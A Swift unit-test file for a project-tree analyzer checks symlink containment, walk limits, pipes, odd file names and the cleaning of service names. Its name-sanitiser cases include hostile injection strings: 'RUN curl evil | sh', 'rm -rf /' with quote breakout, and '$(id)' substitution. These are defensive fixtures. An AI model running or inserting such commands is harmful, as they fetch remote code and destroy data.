import ForgeBasics
import Foundation
import Testing

@testable import ForgeAnalyzer
@testable import ForgeCodebase

struct ProjectTreeTests {
  @Test func leavesOutWhatIsMade() throws {
    let project = try Project([
      "a.txt": "", "node_modules/x/index.js": "", ".next/b": "", "dist/c": "",
      "app/dist/page.tsx": "",
      "env/pyvenv.cfg": "",
      "env/lib/d.py": "", "lib/__pycache__/e.pyc": "", "lib/f.py": "", "lib-2/g": "",
    ])
    let tree = try ProjectTree(walking: project.path)
    #expect(tree.files == ["a.txt", "app/dist/page.tsx", "lib-2/g", "lib/f.py"])
    #expect(tree.folders == ["app", "app/dist", "lib", "lib-2"])
    #expect(Array(tree.files(below: "lib")) == ["lib/f.py"])
    #expect(tree.names(in: ".") == ["a.txt"])
    #expect(
      tree.hasFile("lib/f.py") && !tree.hasFile("dist/c") && tree.hasFolder(".")
        && !tree.hasFolder("dist"))
  }

  @Test func linksDoNotLeadOut() throws {
    let project = try Project(["a/b.txt": "inside"])
    let files = FileManager.default
    try files.createSymbolicLink(atPath: project.path + "/inside", withDestinationPath: "a/b.txt")
    try files.createSymbolicLink(
      atPath: project.path + "/outside", withDestinationPath: "/etc/passwd")
    try files.createSymbolicLink(atPath: project.path + "/a/cycle", withDestinationPath: "..")
    try files.createSymbolicLink(atPath: project.path + "/dangling", withDestinationPath: "nowhere")
    let tree = try ProjectTree(walking: project.path)
    #expect(tree.files == ["a/b.txt", "inside"])
    #expect(tree.source("inside")?.text == "inside")
    #expect(try tree.bytes("outside") == nil)
    #expect(tree.findings.map(\.id) == ["FORGE-T005"] && tree.findings.first?.location == "outside")
  }

  @Test func isBounded() throws {
    let project = try Project(["1": "", "2": "", "3": "", "d/d/d/d/x": ""])
    let few = try ProjectTree(walking: project.path, limits: .init(files: 2))
    #expect(few.files == ["1", "2"] && few.findings.map(\.id) == ["FORGE-T001"])
    let shallow = try ProjectTree(walking: project.path, limits: .init(depth: 3))
    #expect(shallow.folders == ["d", "d/d"] && shallow.findings.map(\.location) == ["d/d/d"])
  }

  @Test func aPipeIsNoFile() throws {
    let project = try Project(["package.json": "{}"])
    #expect(mkfifo(project.path + "/pipe", 0o600) == 0)
    let tree = try ProjectTree(walking: project.path)
    #expect(tree.files == ["package.json"])
    // One that takes a file's place after the walk is not waited for.
    #expect(
      unlink(project.path + "/package.json") == 0
        && mkfifo(project.path + "/package.json", 0o600) == 0)
    #expect(throws: AnalysisError.unreadable(path: "package.json", reason: "not a regular file")) {
      try tree.bytes("package.json")
    }
  }

  @Test func namesThatAreNotText() throws {
    let project = try Project(["a": ""])
    let file =
      Array((project.path + "/").utf8CString.dropLast()) + [CChar(bitPattern: 0xFF), 0x62, 0]
    let made = open(file, O_CREAT | O_WRONLY, 0o600)
    #expect(made >= 0)
    close(made)
    let tree = try ProjectTree(walking: project.path)
    #expect(tree.files == ["a"] && tree.findings.map(\.id) == ["FORGE-T004"])
  }

  @Test func unusablePaths() throws {
    let project = try Project(["file": "", "empty/x": "", "none/readme.md": ""])
    try FileManager.default.removeItem(atPath: project.path + "/empty/x")
    let cases: [(String, AnalysisError)] = [
      ("/missing", .notFound(path: project.path + "/missing")),
      ("/file", .notAFolder(path: project.path + "/file")),
      ("/empty", .empty(path: project.path + "/empty")),
      ("/none", .noService(path: project.path + "/none", hint: nil)),
    ]
    for (path, expected) in cases {
      #expect(throws: expected) { try Analyzer.analyze(project.path + path) }
      #expect(expected.exitCode == .usage)
    }
  }

  @Test(arguments: [
    ("Todo App", "todo-app"), ("@acme/web", "web"), ("x\nRUN curl evil | sh", "x-run-curl-evil-sh"),
    ("..", nil),
    ("a\"; rm -rf / #", "a-rm-rf"), ("--x--", "x"), ("a__b..c", "a_b.c"), ("ÄÖ", nil), ("", nil),
    ("@/", nil),
    ("$(id)`id`", "id-id"),
  ])
  func names(_ name: String, _ expected: String?) { #expect(ServiceName.reduce(name) == expected) }

  @Test func longNamesAreCut() throws {
    let name = try #require(ServiceName.reduce(String(repeating: "ab-", count: 1_000)))
    #expect(name.utf8.count <= 63 && !name.hasSuffix("-"))
  }

  @Test(arguments: [
    ("NEXT_PUBLIC_API_URL", true), ("API_URL", true), ("BACKEND_BASE_URL", true),
    ("TODO_API_URL", true),
    ("OPENAI_API_URL", false), ("DATABASE_URL", false), ("API_KEY", false),
    ("NEXT_PUBLIC_URL", false),
  ])
  func addresses(_ name: String, _ expected: Bool) {
    let backend = Service(
      name: "todo-backend", path: "backend", kind: .fastapi,
      framework: Framework(name: "fastapi", version: nil, source: ""),
      runtime: Runtime(name: .python, version: "3.13", source: ""),
      packageManager: PackageManager(name: .pip, lockfile: nil, source: ""), port: 8000,
      installInputs: [])
    #expect(AddressName.isAddress(name, of: backend) == expected)
  }
}
